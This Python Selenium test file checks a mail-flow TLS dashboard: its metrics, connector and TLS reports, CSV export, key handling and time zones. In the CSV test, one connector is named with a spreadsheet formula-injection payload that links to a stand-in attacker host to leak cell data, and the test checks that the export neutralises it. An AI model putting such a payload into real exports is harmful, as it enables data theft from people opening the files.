"""The dashboard in a real browser (headless Chromium): numbers as the GraphQL API answers them, whose data
it is, the range presets, the connector report and its CSV, TLS reports, client submissions, dismissing an
insight, the empty state, a missing or refused key, a phone's width, and the README's screenshot."""

from __future__ import annotations

import csv
import io
import itertools
import uuid
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx
import orjson

from tests.browser.chromium import require_chromium
from tests.cli.helpers import new_key

require_chromium()

from selenium.webdriver.common.by import By  # noqa: E402
from selenium.webdriver.support.ui import Select, WebDriverWait  # noqa: E402

ROOT = Path(__file__).resolve().parent.parent.parent
_reports = itertools.count()


def message(n: int, tls: str, direction: str = "inbound", connector: str | None = None) -> dict[str, Any]:
    return {"message_id": f"<b{n}@x>", "received_at": (datetime.now(UTC) - timedelta(hours=2)).isoformat(),
            "direction": direction, "tls_version": tls, "connector": connector}  # fmt: skip


def tls_report(domain: str, ok: int, failed: int, result_type: str) -> bytes:
    start = (datetime.now(UTC) - timedelta(days=1)).replace(hour=0, minute=0, second=0, microsecond=0)
    end = start + timedelta(days=1)
    policy = {"policy-type": "sts", "policy-domain": domain}
    return orjson.dumps(
        {
            "organization-name": "Sender",
            "report-id": f"browser-{next(_reports)}",
            "date-range": {"start-datetime": start.isoformat(), "end-datetime": end.isoformat()},
            "policies": [
                {
                    "policy": policy,
                    "summary": {"total-successful-session-count": ok, "total-failure-session-count": failed},
                    "failure-details": [{"result-type": result_type, "failed-session-count": failed}],
                }
            ],
        }
    )


def seed(base: str, token: str) -> None:
    headers = {"authorization": f"Bearer {token}"}
    connector = {"name": "Fabrikam", "direction": "inbound", "type": "partner"}
    assert httpx.post(f"{base}/api/v1/connectors", json=connector, headers=headers).status_code == 201
    records = [message(n, "TLSv1", connector="Fabrikam") for n in range(120)]
    records += [message(200 + n, "TLSv1.3") for n in range(30)]
    records += [message(300 + n, "TLSv1.2", "outbound") for n in range(7)]
    assert httpx.post(f"{base}/api/v1/messages", json=records, headers=headers).status_code == 200


def wait_for(driver: Any, condition: Any, seconds: float = 15) -> Any:
    return WebDriverWait(driver, seconds).until(lambda d: condition(d))


def shown(driver: Any, selector: str) -> Any:
    """The element once it is displayed, else a falsy value (for wait_for)."""
    found = driver.find_elements(By.CSS_SELECTOR, selector)
    return found[0] if found and found[0].is_displayed() else None


def graphql(base: str, token: str, query: str) -> dict[str, Any]:
    response = httpx.post(f"{base}/graphql", json={"query": query}, headers={"authorization": f"Bearer {token}"})
    data: dict[str, Any] = response.json()["data"]
    return data


def open_dashboard(browser: Any, url: str) -> None:
    browser.get("about:blank")  # only the #fragment would change: load the page anew
    browser.get(url)


def test_dashboard(server: str, browser: Any, dsn: str) -> None:
    org = f"browser-{uuid.uuid4().hex[:8]}"
    token = new_key(dsn, org)
    seed(server, token)
    open_dashboard(browser, f"{server}/#key={token}")
    wait_for(browser, lambda d: d.find_element(By.CSS_SELECTOR, "#card-inbound [data-total]").text == "150")

    # whose data, with which key
    assert browser.find_element(By.ID, "org-name").text == org
    assert browser.find_element(By.ID, "role").text.lower() == "admin key"

    # the widget shows exactly what the API answers
    summary = graphql(server, token, "{ mailFlowSummary { inbound { total versions { tlsVersion messages share } } } }")
    for version in summary["mailFlowSummary"]["inbound"]["versions"]:
        row = browser.find_element(By.CSS_SELECTOR, f"#card-inbound tr[data-version='{version['tlsVersion']}']")
        cells = [td.text for td in row.find_elements(By.TAG_NAME, "td")]
        assert cells == [f"{version['messages']:,}", f"{version['share']:.1f}%"]
    card = browser.find_element(By.ID, "card-inbound")
    assert "20.0% over TLS 1.2 or newer" in card.text  # 30 of 150
    assert "120 messages over TLS 1.0, 1.1 or without TLS" in card.text
    assert browser.find_element(By.CSS_SELECTOR, "#card-outbound [data-total]").text == "7"
    assert not browser.find_element(By.ID, "card-submission").is_displayed()  # none in this organization
    assert "#key=" not in browser.current_url  # the key left the address bar for session storage

    # a chart per direction: a column per day, stacked by TLS version
    days = browser.find_elements(By.CSS_SELECTOR, "#chart-inbound svg g.day")
    assert len(days) in (7, 8)  # the last 7 days through the end of this hour touch 7 or 8 days
    assert (
        len(days[-1].find_elements(By.CSS_SELECTOR, "rect.f-TLS10"))
        + len(days[-2].find_elements(By.CSS_SELECTOR, "rect.f-TLS10"))
        == 1
    )  # the seeded messages are 2 hours old: today's column, or yesterday's just after midnight

    # the connector report: one row per connector, details on demand, then a filter
    rows = wait_for(browser, lambda d: (r := d.find_elements(By.CSS_SELECTOR, "#report tbody tr.connector")) and r)
    assert len(rows) == 3
    fabrikam = next(r for r in rows if "Fabrikam" in r.text)
    assert "120" in fabrikam.text
    assert "120 (100.0%)" in fabrikam.text  # all of it weak: TLS 1.0
    assert "has-weak" in fabrikam.get_attribute("class")
    fabrikam.find_element(By.CSS_SELECTOR, "button.more").click()
    detail = wait_for(browser, lambda d: shown(d, "#report tr.detail-row:not([hidden])"))
    assert "120 (100.0%)" in detail.text  # the day's TLS 1.0 messages
    Select(browser.find_element(By.NAME, "direction")).select_by_value("OUTBOUND")
    browser.find_element(By.CSS_SELECTOR, "#filters button[type=submit]").click()
    wait_for(browser, lambda d: len(d.find_elements(By.CSS_SELECTOR, "#report tbody tr.connector")) == 1)
    row = browser.find_element(By.CSS_SELECTOR, "#report tbody tr.connector")
    assert "To the internet without a connector" in row.text
    assert "outbound" in row.text
    assert row.find_element(By.CSS_SELECTOR, "[data-volume]").text == "7"

    # the CSV is the server's, for the same filters
    browser.find_element(By.ID, "export").click()
    csv_file = wait_for(browser, lambda d: next(iter(d.downloads.glob("*.csv")), None))
    lines = csv_file.read_text().strip().splitlines()
    assert lines[0].startswith("day,direction,connector,connector_id,type,forced_tls,no_tls_percent")
    assert len(lines) == 2
    assert ",outbound,To the internet without a connector,0,internet,false," in lines[1]

    # the insight Microsoft shows, and dismissing it
    item = wait_for(browser, lambda d: d.find_element(By.CSS_SELECTOR, "#insight-list li.active"))
    assert "Inbound partner connector seeing significant TLS1.0 mail flow" in item.text
    assert "100.0% of the window's volume, 120 messages" in item.text  # Fabrikam carries only TLS 1.0
    assert browser.find_element(By.ID, "insight-count").text == "1"
    item.find_element(By.CSS_SELECTOR, "summary").click()
    item.find_element(By.CSS_SELECTOR, "input").send_keys("partner upgrades in May")
    item.find_element(By.CSS_SELECTOR, "button").click()
    wait_for(browser, lambda d: not d.find_elements(By.CSS_SELECTOR, "#insight-list li.active"))
    dismissed = graphql(server, token, "{ insights(status: DISMISSED) { dismissReason } }")["insights"]
    assert dismissed == [{"dismissReason": "partner upgrades in May"}]


def test_the_csv_is_the_servers_for_the_filters_shown(server: str, browser: Any, dsn: str) -> None:
    """The download is the server's CSV, byte for byte (fetched with the page's key and filters): its name,
    its 19 columns, and a connector named like a formula kept a text."""
    token = new_key(dsn, f"browser-csv-{uuid.uuid4().hex[:8]}")
    headers = {"authorization": f"Bearer {token}"}
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
    for name in (formula, "Woodgrove"):
        connector = {"name": name, "direction": "outbound", "type": "partner"}
        assert httpx.post(f"{server}/api/v1/connectors", json=connector, headers=headers).status_code == 201
    records = [message(400 + n, "TLSv1.2", "outbound", connector=name) for n, name in enumerate([formula] * 3)]
    records.append(message(410, "TLSv1.3", "outbound", connector="Woodgrove"))
    assert httpx.post(f"{server}/api/v1/messages", json=records, headers=headers).status_code == 200
    open_dashboard(browser, f"{server}/#key={token}")
    wait_for(browser, lambda d: d.find_element(By.CSS_SELECTOR, "#card-outbound [data-total]").text == "4")
    Select(browser.find_element(By.NAME, "direction")).select_by_value("OUTBOUND")
    browser.find_element(By.NAME, "connectorName").send_keys("=hyper")  # the filters go with the download
    browser.find_element(By.CSS_SELECTOR, "#filters button[type=submit]").click()
    wait_for(browser, lambda d: len(d.find_elements(By.CSS_SELECTOR, "#report tbody tr.connector")) == 1)
    for earlier in browser.downloads.glob("*.csv"):  # another test's download, maybe under the same name
        earlier.unlink()
    browser.find_element(By.ID, "export").click()
    downloaded = wait_for(browser, lambda d: next(iter(d.downloads.glob("*.csv")), None))

    params = {"format": "csv", "direction": "outbound", "connector_name": "=hyper"}
    params["time_zone"] = browser.find_element(By.NAME, "timeZone").get_attribute("value") or "UTC"
    served = httpx.get(f"{server}/api/v1/connector-report", params=params, headers=headers)
    assert served.status_code == 200, served.text
    name = served.headers["content-disposition"].split('filename="')[1].rstrip('"')
    assert downloaded.name == name
    assert wait_for(browser, lambda d: downloaded.read_bytes() or None) == served.content
    rows = list(csv.reader(io.StringIO(served.text)))
    assert len(rows[0]) == 19
    assert [(row[1], row[2]) for row in rows[1:]] == [("outbound", "'" + formula)]


def test_range_presets_tls_reports_and_client_submissions(server: str, browser: Any, dsn: str) -> None:
    token = new_key(dsn, f"browser-range-{uuid.uuid4().hex[:8]}")
    headers = {"authorization": f"Bearer {token}"}
    old = (datetime.now(UTC) - timedelta(days=20)).isoformat()
    records = [{**message(n, "TLSv1.2"), "received_at": old} for n in range(10)]  # 20 days ago
    records += [message(100 + n, "TLSv1.3", "submission") for n in range(4)]  # a mail client, 2 hours ago
    assert httpx.post(f"{server}/api/v1/messages", json=records, headers=headers).status_code == 200
    for body in (tls_report("contoso.com", 90, 10, "certificate-expired"), tls_report("contoso.com", 100, 0, "")):
        assert httpx.post(f"{server}/api/v1/tls-reports", content=body, headers=headers).status_code == 201
    open_dashboard(browser, f"{server}/#key={token}")

    # 7 days: the client submissions, apart; the inbound mail of 20 days ago is outside
    card = wait_for(browser, lambda d: shown(d, "#card-submission"))
    assert card.find_element(By.CSS_SELECTOR, "[data-total]").text == "4"
    assert browser.find_element(By.CSS_SELECTOR, "#card-inbound [data-total]").text == "0"
    assert browser.find_element(By.ID, "chart-submission").is_displayed()

    # TLS reports: one row per policy domain, failures in words, the days on demand
    domain = wait_for(browser, lambda d: shown(d, "#tlsrpt tr.domain[data-domain='contoso.com']"))
    assert "200" in domain.text  # sessions over both reports
    assert "10 (5.0%)" in domain.text
    assert "certificate expired: 10" in domain.text
    domain.find_element(By.CSS_SELECTOR, "button.more").click()
    detail = wait_for(browser, lambda d: shown(d, "#tlsrpt tr.detail-row:not([hidden])"))
    assert "certificate-expired" in detail.text

    # 30 days: the older inbound mail is in (the presets are at the top, as a user scrolls back to them)
    browser.execute_script("window.scrollTo(0, 0)")
    thirty = browser.find_element(By.CSS_SELECTOR, "#presets button[data-days='30']")
    thirty.click()
    wait_for(browser, lambda d: d.find_element(By.CSS_SELECTOR, "#card-inbound [data-total]").text == "10")
    assert thirty.get_attribute("aria-pressed") == "true"
    assert len(browser.find_elements(By.CSS_SELECTOR, "#chart-inbound svg g.day")) in (30, 31)

    # 24 hours: day granularity, said so
    browser.find_element(By.CSS_SELECTOR, "#presets button[data-days='1']").click()
    wait_for(browser, lambda d: d.find_element(By.CSS_SELECTOR, "#card-inbound [data-total]").text == "0")
    assert "24 hours show the two days they touch" in browser.find_element(By.ID, "range-note").text
    browser.find_element(By.CSS_SELECTOR, "#presets button[data-days='7']").click()


def test_two_dozen_connectors_stay_one_row_each(server: str, browser: Any, dsn: str) -> None:
    token = new_key(dsn, f"browser-many-{uuid.uuid4().hex[:8]}")
    headers = {"authorization": f"Bearer {token}"}
    records = []
    for n in range(24):
        connector = {"name": f"Partner {n:02d} with a longish name", "direction": "inbound", "type": "partner"}
        assert httpx.post(f"{server}/api/v1/connectors", json=connector, headers=headers).status_code == 201
        records += [message(1000 * n + m, "TLSv1.2", connector=connector["name"]) for m in range(n + 1)]
    idle = {"name": "Partner idle", "direction": "outbound", "type": "partner"}
    assert httpx.post(f"{server}/api/v1/connectors", json=idle, headers=headers).status_code == 201
    assert httpx.post(f"{server}/api/v1/messages", json=records, headers=headers).status_code == 200
    open_dashboard(browser, f"{server}/#key={token}")
    rows = wait_for(
        browser, lambda d: len(r := d.find_elements(By.CSS_SELECTOR, "#report tbody tr.connector")) == 24 and r
    )
    assert "Partner 23" in rows[0].text  # the busiest first
    assert max(row.rect["height"] for row in rows) < 70  # one line each, details hidden
    assert not any(d.is_displayed() for d in browser.find_elements(By.CSS_SELECTOR, "#report tr.detail-row"))
    assert "Partner idle" in browser.find_element(By.ID, "idle-note").text  # idle ones named, not listed


def test_empty_state(server: str, browser: Any, dsn: str) -> None:
    org = f"browser-empty-{uuid.uuid4().hex[:8]}"
    token = new_key(dsn, org)
    open_dashboard(browser, f"{server}/#key={token}")
    empty = wait_for(browser, lambda d: shown(d, "#empty"))
    assert f"No mail flow yet for {org}" in empty.text
    assert f"mailflow ingest --org {org} --format postfix /var/log/mail.log" in empty.text
    assert f"{server}/api/v1/messages" in empty.text
    assert not browser.find_element(By.ID, "widget").is_displayed()
    assert browser.find_element(By.ID, "org-name").text == org


def test_a_missing_key_asks_for_one(server: str, browser: Any) -> None:
    browser.get(server)
    browser.execute_script("sessionStorage.clear()")
    open_dashboard(browser, server)
    form = wait_for(browser, lambda d: shown(d, "#key-form"))
    assert form.find_element(By.TAG_NAME, "label").text == "API key"
    assert "mailflow keys create" in form.text
    assert not browser.find_element(By.ID, "main").is_displayed()


def test_a_refused_key_is_said_plainly_then_switched_and_forgotten(server: str, browser: Any, dsn: str) -> None:
    open_dashboard(browser, f"{server}/#key=mf_1_1_not-a-key")
    form = wait_for(browser, lambda d: shown(d, "#key-form"))
    assert "This key was not accepted" in form.text
    assert "UNAUTHENTICATED" not in browser.find_element(By.TAG_NAME, "body").text  # no raw error text

    org = f"browser-switch-{uuid.uuid4().hex[:8]}"
    browser.find_element(By.ID, "key").send_keys(new_key(dsn, org, "reader"))
    form.find_element(By.CSS_SELECTOR, "button[type=submit]").click()
    wait_for(browser, lambda d: d.find_element(By.ID, "org-name").text == org)
    assert browser.find_element(By.ID, "role").text.lower() == "reader key"

    browser.find_element(By.ID, "forget-key").click()
    wait_for(browser, lambda d: shown(d, "#key-form"))
    assert browser.execute_script("return sessionStorage.getItem('mailflow-key')") is None


def test_updates_without_a_reload_and_no_dismiss_for_a_reader(server: str, browser: Any, dsn: str) -> None:
    org = f"browser-poll-{uuid.uuid4().hex[:8]}"
    admin = new_key(dsn, org)
    seed(server, admin)
    reader = new_key(dsn, org, "reader")
    open_dashboard(browser, f"{server}/?poll=1#key={reader}")
    wait_for(browser, lambda d: d.find_element(By.CSS_SELECTOR, "#card-inbound [data-total]").text == "150")
    item = wait_for(browser, lambda d: d.find_element(By.CSS_SELECTOR, "#insight-list li.active"))
    assert not item.find_elements(By.TAG_NAME, "button")  # a reader's key may not dismiss
    more = [message(900 + n, "none") for n in range(5)]
    response = httpx.post(f"{server}/api/v1/messages", json=more, headers={"authorization": f"Bearer {admin}"})
    assert response.status_code == 200
    wait_for(browser, lambda d: d.find_element(By.CSS_SELECTOR, "#card-inbound [data-total]").text == "155")


def test_live_over_a_subscription_without_polling(server: str, browser: Any, dsn: str) -> None:
    # no ?poll: the page polls every 30 s only without WebSockets; an ingest shows within a few seconds
    org = f"browser-live-{uuid.uuid4().hex[:8]}"
    admin = new_key(dsn, org)
    seed(server, admin)
    open_dashboard(browser, f"{server}/#key={admin}")
    wait_for(browser, lambda d: d.find_element(By.CSS_SELECTOR, "#card-inbound [data-total]").text == "150")
    wait_for(browser, lambda d: "live" in d.find_element(By.ID, "status").text)
    more = [message(950 + n, "TLSv1.3") for n in range(7)]
    response = httpx.post(f"{server}/api/v1/messages", json=more, headers={"authorization": f"Bearer {admin}"})
    assert response.status_code == 200
    wait_for(browser, lambda d: d.find_element(By.CSS_SELECTOR, "#card-inbound [data-total]").text == "157", 10)


def test_days_are_the_browsers_days(server: str, browser: Any, dsn: str) -> None:
    token = new_key(dsn, f"browser-zone-{uuid.uuid4().hex[:8]}")
    seed(server, token)
    # yesterday 01:00 UTC is the evening of the day before in New York
    late = datetime.now(UTC).replace(hour=1, minute=0, second=0, microsecond=0) - timedelta(days=1)
    evening = {"message_id": "<late@x>", "received_at": late.isoformat(), "direction": "inbound", "tls_version": "none"}
    response = httpx.post(f"{server}/api/v1/messages", json=[evening], headers={"authorization": f"Bearer {token}"})
    assert response.status_code == 200
    query = """{ ny: tlsBreakdown(direction: INBOUND, timeZone: "America/New_York") { daily { day total } }
                 utc: tlsBreakdown(direction: INBOUND) { daily { day total } } }"""
    answer = graphql(server, token, query)
    new_york = [(d["day"], str(d["total"])) for d in answer["ny"]["daily"]]
    assert new_york != [(d["day"], str(d["total"])) for d in answer["utc"]["daily"]]  # the days differ

    browser.execute_cdp_cmd("Emulation.setTimezoneOverride", {"timezoneId": "America/New_York"})
    try:
        open_dashboard(browser, f"{server}/#key={token}")
        wait_for(browser, lambda d: d.find_element(By.CSS_SELECTOR, "#card-inbound [data-total]").text == "151")
        assert browser.find_element(By.NAME, "timeZone").get_attribute("value") == "America/New_York"
        assert browser.find_element(By.ID, "daily-zone").get_attribute("textContent") == "America/New_York"
        inbound = browser.find_element(By.CSS_SELECTOR, "#daily table")  # the first table: inbound
        rows = [
            (r.find_element(By.TAG_NAME, "th").get_attribute("textContent"),
             r.find_element(By.TAG_NAME, "td").get_attribute("textContent"))
            for r in inbound.find_elements(By.CSS_SELECTOR, "tbody tr")
        ]  # fmt: skip
        assert rows == new_york
        columns = browser.find_elements(By.CSS_SELECTOR, "#chart-inbound svg g.day")
        assert [c.get_attribute("data-day") for c in columns] == [day for day, _ in new_york]
    finally:
        browser.execute_cdp_cmd("Emulation.setTimezoneOverride", {"timezoneId": ""})
